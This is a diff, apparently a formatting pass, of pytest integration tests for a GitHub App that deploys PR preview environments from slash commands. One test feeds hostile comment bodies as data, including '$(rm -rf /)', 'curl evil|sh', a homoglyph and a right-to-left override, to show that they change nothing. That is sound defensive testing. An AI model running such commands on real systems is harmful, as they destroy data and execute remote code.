@@ -1,5 +1,6 @@
 """ghapp as a GitHub App against the strict fake GitHub: real server, real PostgreSQL, real Terraform on the
 scripted module, signed real deliveries (and variants derived from them here)."""
+
 from __future__ import annotations
 
 import copy
@@ -26,9 +27,16 @@ def github(fake_github):
 @pytest.fixture
 def start_app(start_app, github):
     """The shared `start_app`, as the GitHub App talking to the fake GitHub."""
+
     async def start(**changes):
-        return await start_app(app_id=str(github.app_id), private_key=github.private_key_pem,
-                               github_api_url=github.base_url, public_url="https://ghapp.example.com", **changes)
+        return await start_app(
+            app_id=str(github.app_id),
+            private_key=github.private_key_pem,
+            github_api_url=github.base_url,
+            public_url="https://ghapp.example.com",
+            **changes,
+        )
+
     return start
 
 
@@ -42,12 +50,23 @@ async def post(client, deliveries: Deliveries, event: str, data: dict) -> dict:
 async def published(db, env_id: int):
     """The environment once everything about its current state has been published to GitHub."""
     env = await environment(db, env_id)
-    return env if env and env["observed_generation"] == env["generation"] \
-        and env["published_version"] == env["version"] else None
+    return (
+        env
+        if env and env["observed_generation"] == env["generation"] and env["published_version"] == env["version"]
+        else None
+    )
 
 
-def comment_on_pr(deliveries: Deliveries, body: str, *, user: str = "Codertocat", association: str = "OWNER",
-                  user_type: str = "User", on_pr: bool = True, github=None) -> dict:
+def comment_on_pr(
+    deliveries: Deliveries,
+    body: str,
+    *,
+    user: str = "Codertocat",
+    association: str = "OWNER",
+    user_type: str = "User",
+    on_pr: bool = True,
+    github=None,
+) -> dict:
     """`issue_comment.created` (whose real example is on an issue) moved onto PR #2, by `user`; the comment
     exists on the fake GitHub too when `github` is given."""
     data = copy.deepcopy(deliveries.payload("issue_comment.created"))
@@ -55,8 +74,10 @@ def comment_on_pr(deliveries: Deliveries, body: str, *, user: str = "Codertocat"
         data["comment"]["id"] = github.add_comment(REPO, 2, body, user=user, author_association=association)["id"]
     data["issue"]["number"] = 2
     if on_pr:
-        data["issue"]["pull_request"] = {"url": f"https://api.github.com/repos/{REPO}/pulls/2",
-                                         "html_url": f"https://github.com/{REPO}/pull/2"}
+        data["issue"]["pull_request"] = {
+            "url": f"https://api.github.com/repos/{REPO}/pulls/2",
+            "html_url": f"https://github.com/{REPO}/pull/2",
+        }
     data["comment"]["body"] = body
     data["comment"]["user"] = {**data["comment"]["user"], "login": user, "type": user_type}
     data["comment"]["author_association"] = association
@@ -98,8 +119,13 @@ async def test_opened_pr_gets_check_run_comment_and_deployment(start_app, delive
     # one token, narrowed to the repository and to the permissions the app needs
     assert len(github.tokens) == 1
     assert github.tokens[0].repositories == {REPO}
-    assert github.tokens[0].permissions == {"checks": "write", "deployments": "write", "issues": "write",
-                                            "pull_requests": "read", "metadata": "read"}
+    assert github.tokens[0].permissions == {
+        "checks": "write",
+        "deployments": "write",
+        "issues": "write",
+        "pull_requests": "read",
+        "metadata": "read",
+    }
     creates = [op for op in github.operations() if op.endswith(("/create", "create-comment", "create-deployment"))]
     assert creates == ["checks/create", "issues/create-comment", "repos/create-deployment"]
 
@@ -170,8 +196,7 @@ async def test_failure_shows_the_end_of_the_log(start_app, deliveries, db, githu
     env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
     await wait_for(lambda: _failed_published(db, env_id), what="failed for good and published")
     run = final_check_run(github, SHA)
-    assert (run["status"], run["conclusion"], run["output"]["title"]) == ("completed", "failure",
-                                                                          "Deployment failed")
+    assert (run["status"], run["conclusion"], run["output"]["title"]) == ("completed", "failure", "Deployment failed")
     assert "scripted failure" in run["output"]["text"]
     deployment = github.deployments(REPO)[0]
     assert github.deployment_statuses(REPO, deployment["id"])[-1]["state"] == "failure"
@@ -180,8 +205,13 @@ async def test_failure_shows_the_end_of_the_log(start_app, deliveries, db, githu
 
 async def _failed_published(db, env_id):
     env = await environment(db, env_id)
-    return env if env.get("status") == "failed" and env["next_attempt_at"] is None \
-        and env["published_version"] == env["version"] else None
+    return (
+        env
+        if env.get("status") == "failed"
+        and env["next_attempt_at"] is None
+        and env["published_version"] == env["version"]
+        else None
+    )
 
 
 async def test_github_outage_never_blocks_provisioning_and_reports_catch_up(start_app, deliveries, db, github):
@@ -225,6 +255,7 @@ async def test_expired_token_is_replaced(start_app, deliveries, db, github):
 
 # --- commands ------------------------------------------------------------------------------------------------------
 
+
 async def test_destroy_command_by_a_maintainer(start_app, deliveries, db, github):
     client = await start_app()
     env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
@@ -242,8 +273,12 @@ async def test_command_from_a_reader_is_politely_refused(start_app, deliveries, 
     client = await start_app()
     env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
     await wait_for(lambda: _active_published(db, env_id), what="active")
-    await post(client, deliveries, "issue_comment",
-               comment_on_pr(deliveries, "/preview destroy", user="passerby", association="NONE"))
+    await post(
+        client,
+        deliveries,
+        "issue_comment",
+        comment_on_pr(deliveries, "/preview destroy", user="passerby", association="NONE"),
+    )
     reply = await wait_for(lambda: _reply_from_bot(github, "Sorry @passerby"), what="a polite refusal")
     assert "write access" in reply["body"]
     env = await environment(db, env_id)
@@ -258,11 +293,11 @@ async def test_help_and_unknown_commands_get_the_help(start_app, deliveries, db,
     client = await start_app()
     data = comment_on_pr(deliveries, "/preview launch-rockets", github=github)
     await post(client, deliveries, "issue_comment", data)
-    reply = await wait_for(lambda: _reply_from_bot(github, "`/preview launch-rockets` is not a command"),
-                           what="help")
+    reply = await wait_for(lambda: _reply_from_bot(github, "`/preview launch-rockets` is not a command"), what="help")
     assert "/preview redeploy" in reply["body"]
-    github.assert_operations(["apps/create-installation-access-token", "reactions/create-for-issue-comment",
-                              "issues/create-comment"])
+    github.assert_operations(
+        ["apps/create-installation-access-token", "reactions/create-for-issue-comment", "issues/create-comment"]
+    )
     assert github.calls("reactions/create-for-issue-comment")[0].json == {"content": "eyes"}
     assert github.calls("apps/create-installation-access-token")[0].json["repository_ids"] == [REPO_ID]
 
@@ -270,10 +305,12 @@ async def test_help_and_unknown_commands_get_the_help(start_app, deliveries, db,
 @pytest.mark.parametrize("variant", ["bot", "not a PR", "no command", "quoted", "in a code block"])
 async def test_comments_that_are_not_commands_are_ignored(start_app, deliveries, db, github, variant):
     client = await start_app()
-    body = {"quoted": "> /preview destroy", "in a code block": "```\n/preview destroy\n```",
-            "no command": "looks good /preview destroy"}.get(variant, "/preview destroy")
-    data = comment_on_pr(deliveries, body, user_type="Bot" if variant == "bot" else "User",
-                         on_pr=variant != "not a PR")
+    body = {
+        "quoted": "> /preview destroy",
+        "in a code block": "```\n/preview destroy\n```",
+        "no command": "looks good /preview destroy",
+    }.get(variant, "/preview destroy")
+    data = comment_on_pr(deliveries, body, user_type="Bot" if variant == "bot" else "User", on_pr=variant != "not a PR")
     reply = await post(client, deliveries, "issue_comment", data)
     assert "ignored" in reply
     assert await db.fetchval("SELECT count(*) FROM commands") == 0
@@ -282,8 +319,13 @@ async def test_comments_that_are_not_commands_are_ignored(start_app, deliveries,
 
 async def test_hostile_comment_changes_nothing(start_app, deliveries, db, github):
     client = await start_app()
-    for body in ["/preview $(rm -rf /)", "/preview deploy; curl evil|sh", "/prеview destroy",  # Cyrillic е
-                 "/preview\u202edestroy", "x" * 70_000 + "\n/preview destroy"]:
+    for body in [
+        "/preview $(rm -rf /)",
+        "/preview deploy; curl evil|sh",
+        "/prеview destroy",  # Cyrillic е
+        "/preview\u202edestroy",
+        "x" * 70_000 + "\n/preview destroy",
+    ]:
         await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, body))
     rows = await db.fetch("SELECT command, unknown FROM commands ORDER BY id")
     assert [(r["command"], r["unknown"]) for r in rows] == [("help", "rm"), ("help", "deploy")]
@@ -292,12 +334,14 @@ async def test_hostile_comment_changes_nothing(start_app, deliveries, db, github
 
 # --- forks ---------------------------------------------------------------------------------------------------------
 
+
 async def test_fork_pr_waits_for_a_maintainers_approval(start_app, deliveries, db, github):
     github.add_pull(REPO, 2, head_sha=SHA, head_ref="changes", user="contributor", fork=True)
     github.set_permission(REPO, "contributor", "read")
     client = await start_app()
-    env_id = (await post(client, deliveries, "pull_request",
-                         deliveries.pull_request("opened", fork=True)))["environment_id"]
+    env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened", fork=True)))[
+        "environment_id"
+    ]
     env = await wait_for(lambda: published(db, env_id), what="the approval request published")
     assert env["desired"] == "absent" and await db.fetchval("SELECT count(*) FROM runs") == 0
     run = final_check_run(github, SHA)
@@ -305,8 +349,12 @@ async def test_fork_pr_waits_for_a_maintainers_approval(start_app, deliveries, d
     assert "waiting for approval" in github.comments(REPO, 2)[0]["body"]
 
     # the contributor cannot approve their own PR
-    await post(client, deliveries, "issue_comment",
-               comment_on_pr(deliveries, "/preview deploy", user="contributor", association="CONTRIBUTOR"))
+    await post(
+        client,
+        deliveries,
+        "issue_comment",
+        comment_on_pr(deliveries, "/preview deploy", user="contributor", association="CONTRIBUTOR"),
+    )
     await wait_for(lambda: _reply_from_bot(github, "Sorry @contributor"), what="refusal")
     # a maintainer approves this commit
     await post(client, deliveries, "issue_comment", comment_on_pr(deliveries, "/preview deploy"))
@@ -329,6 +377,7 @@ async def _head_published(db, env_id, sha):
 
 # --- check-run buttons and installation lifecycle -----------------------------------------------------------------
 
+
 def check_run_event(deliveries: Deliveries, github, env_id: int, action: str, identifier: str | None = None) -> dict:
     data = copy.deepcopy(deliveries.payload(f"check_run.{action}"))
     data["check_run"]["app"]["id"] = github.app_id
@@ -347,8 +396,9 @@ async def test_destroy_button_then_rerun_redeploys(start_app, deliveries, db, gi
     client = await start_app()
     env_id = (await post(client, deliveries, "pull_request", deliveries.pull_request("opened")))["environment_id"]
     await wait_for(lambda: _active_published(db, env_id), what="active")
-    reply = await post(client, deliveries, "check_run",
-                       check_run_event(deliveries, github, env_id, "requested_action", "destroy"))
+    reply = await post(
+        client, deliveries, "check_run", check_run_event(deliveries, github, env_id, "requested_action", "destroy")
+    )
     assert reply["command"] == "destroy"
     await wait_for(lambda: _status_published(db, env_id, "destroyed"), what="destroyed by the button")
     await post(client, deliveries, "check_run", check_run_event(deliveries, github, env_id, "rerequested"))
